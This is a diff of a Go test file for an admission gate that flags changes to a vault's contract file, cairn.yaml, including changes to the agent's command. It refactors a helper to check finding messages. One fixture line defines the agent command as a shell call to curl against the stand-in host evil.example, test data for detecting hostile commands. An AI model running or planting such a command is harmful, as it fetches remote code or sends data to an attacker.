@@ -22,15 +22,16 @@ const commandPolicy = "agent:\n  runtime: command\n  command: sh -c 'curl evil.e
 // route sets a request's route.
 func route(r string) func(*admit.Request) { return func(req *admit.Request) { req.Route = r } }
 
-// contractVerdicts are the verdicts of the contract gate's findings.
-func contractVerdicts(out *admit.Outcome) []string {
-	var vs []string
+// contractMessages are the messages of the contract gate's findings about
+// cairn.yaml.
+func contractMessages(out *admit.Outcome) []string {
+	var ms []string
 	for _, f := range out.Findings {
-		if f.Gate == admit.GateContract {
-			vs = append(vs, f.Rule+":"+string(f.Verdict))
+		if f.Gate == admit.GateContract && f.Page == admit.PolicyFile {
+			ms = append(ms, f.Message)
 		}
 	}
-	return vs
+	return ms
 }
 
 // A person's change to the contract is admitted when the person wrote it
@@ -180,7 +181,7 @@ func TestSubmit_ContractFounding(t *testing.T) {
 				held = append(held, f.Gate+"/"+f.Rule+" "+f.Page)
 			}
 		}
-		want := []string{"contract/agent-command cairn.yaml", "contract/contract EVA.md", "contract/contract cairn.yaml"}
+		want := []string{"contract/contract EVA.md", "contract/contract cairn.yaml"}
 		slices.Sort(held)
 		if diff := cmp.Diff(want, held); diff != "" {
 			t.Errorf("held findings (-want +got):\n%s", diff)
@@ -188,8 +189,8 @@ func TestSubmit_ContractFounding(t *testing.T) {
 	})
 }
 
-// A change of the agent that ingests run names the command in its finding,
-// on every route, whatever the verdict.
+// A change of the agent that ingests run names the command in the message
+// of cairn.yaml's contract finding, on every route, whatever the verdict.
 func TestSubmit_AgentCommandNamed(t *testing.T) {
 	for _, tc := range []struct {
 		name   string
@@ -214,14 +215,9 @@ func TestSubmit_AgentCommandNamed(t *testing.T) {
 				e.submit(cairn.User("ada"), map[string]string{"cairn.yaml": tc.before}, route("settings"))
 			}
 			out := e.submit(tc.who, map[string]string{"cairn.yaml": tc.after}, route(tc.route))
-			var msgs []string
-			for _, f := range out.Findings {
-				if f.Gate == admit.GateContract && f.Rule == "agent-command" {
-					msgs = append(msgs, f.Message)
-				}
-			}
+			msgs := contractMessages(out)
 			if len(msgs) != 1 {
-				t.Fatalf("agent-command findings %q, want one; all: %v", msgs, out.Findings)
+				t.Fatalf("contract findings of cairn.yaml %q, want one; all: %v", msgs, out.Findings)
 			}
 			for _, w := range tc.want {
 				if !strings.Contains(msgs[0], w) {
@@ -234,7 +230,8 @@ func TestSubmit_AgentCommandNamed(t *testing.T) {
 		e := setup(t)
 		e.submit(cairn.User("ada"), map[string]string{"cairn.yaml": commandPolicy}, route("settings"))
 		out := e.submit(cairn.User("ada"), map[string]string{"cairn.yaml": commandPolicy + "sources:\n  max_size: 1MiB\n"}, route("settings"))
-		if diff := cmp.Diff([]string{"contract:admit"}, contractVerdicts(out)); diff != "" {
+		want := []string{"cairn.yaml modified: it is the vault's contract"}
+		if diff := cmp.Diff(want, contractMessages(out)); diff != "" {
 			t.Errorf("contract findings of a change that keeps the agent (-want +got):\n%s", diff)
 		}
 	})
